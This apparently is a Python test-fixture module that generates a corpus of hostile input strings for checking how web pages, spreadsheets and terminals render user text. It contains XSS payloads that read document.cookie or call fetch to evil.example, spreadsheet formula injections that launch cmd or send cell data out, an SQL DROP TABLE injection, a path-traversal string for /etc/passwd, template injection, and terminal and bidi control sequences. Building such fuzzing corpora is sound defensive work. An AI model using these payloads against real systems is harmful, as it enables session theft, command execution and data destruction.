"""Hostile text: what somebody may type or send in a file so that a page, a table or a terminal says or does something else."""

import unicodedata

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

_ACTS = (
    "alert(1)",
    "fetch('https://evil.example')",
    "document.cookie",
    "location='//evil.example'",
    "parent.Jupyter",
)

_MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<style>@import 'https://evil.example/{}'</style>",
    "</td></tr></table><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!--><script>{}</script>",
    "<math><mtext><script>{}</script>",
    "<object data='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;{}'>",
    "<base href='https://evil.example/{}'>",
    "<form action='https://evil.example/{}'><input>",
    "<link rel=stylesheet href=//evil/{}>",
    "{{{{ {} }}}}",
    "{{% import os %}}{{{{ {} }}}}",
    "${{{}}}",
    "<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}",
    "x' style='background:url(//evil.example/{})",
    'x" onmouseover="{}',
    "`{}`",
    "]]><script>{}</script>",
)

_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://evil.example/?"&A1,"Click")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    'IMPORTXML("https://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "A1*2&B1",
)
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "=-",
    "＝",
    "＋",
    "x;=",
    "x;-",
    "x\t=",
    "x|=",
    'x";=',
    "x\n@",
    ";=",
    "'=",
)

_TEX = (
    r"$\frac{1}{2}$",
    "$27 and $72",
    "$$x^2$$",
    r"\(x\)",
    r"\[x\]",
    r"\begin{align}x\end{align}",
    r"$\href{javascript:alert(1)}{x}$",
    r"cost $5, was $9",
    r"$\color{white}{27}$72",
    r"$",
    r"\$",
    r"$_{$",
    r"$\undefined$",
    r"a_b^c{d}",
    r"\textbf{x}",
    r"$\int$ & <b>",
)

_TERMINAL = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b[31mred",
    "\x07",
    "\x08\x08\x08",
    "\x9b2J",
    "\x1bc",
    "\rOK",
    "\x7f",
    "\x00",
    "\x0c",
    "\x85",
)

_LENGTHS = (
    "x" * 230,
    "x " * 150,
    "ä" * 199,
    "漢" * 120,
    "e" + "\u0301" * 60,
    "",
    " ",
    "\u00a0",
    "\u3000",
    "👩‍👩‍👧‍👦" * 12,
    "\n" * 20,
    "a\nb\nc",
)

_NAMES = (
    "CON",
    "../../etc/passwd",
    "C:\\Windows\\x",
    "a/b",
    "NULL",
    "None",
    "nan",
    "NaN",
    "undefined",
    "true",
    "1e999",
    "-0",
    "0x1F",
    "1_000",
    "%s%n%x",
    "%00",
    "{0}",
    "{self}",
    "[]",
    "{}",
    "\\",
    "\\u0041",
    "'; DROP TABLE customers; --",
    "1; SELECT 1",
    '"',
    "'",
    "’",
    "--",
    "/*",
    "a,b",
    "a;b",
    "a\tb",
    "#REF!",
    "*",
    "?",
    "~",
    "!",
    "^",
    "الاسم",
    "שלום 27 %",
    "Zoë",
    "Łukasz",
    "Ἀθήνα",
    "नमस्ते",
    "ﬁ",
    "𝓐𝓷𝓷𝓪",
    "\ufeffx",
    "\ufffe",
    "\U000e0041\U000e0042",
    "\ufff9a\ufffab\ufffb",
    "\u2028x",
    "\u2029x",
    "a\u200bb",
    "a\u00adb",
    "x\u2060y",
    "\ud800",
)

STRINGS = tuple(
    dict.fromkeys(
        [
            *(shape.format(act) for shape in _MARKUP for act in _ACTS),
            *(start + formula for start in _STARTS for formula in _FORMULAS),
            *(f"Hearth {mark}27 %{close} of all" for mark in BIDI for close in ("", "\u202c", "\u2069")),
            *_TEX,
            *(f"Ann{sign}a" for sign in _TERMINAL),
            *_LENGTHS,
            *_NAMES,
        ]
    )
)
"""Each of them once; more than three hundred."""


def acts_unseen(text: str) -> set[str]:
    """Return the signs of a text that have no shape and act on what stands around them, judged by Unicode's own tables."""
    return {sign for sign in text if (unicodedata.category(sign) in ("Cc", "Cs") and sign not in "\n\t") or sign in BIDI}
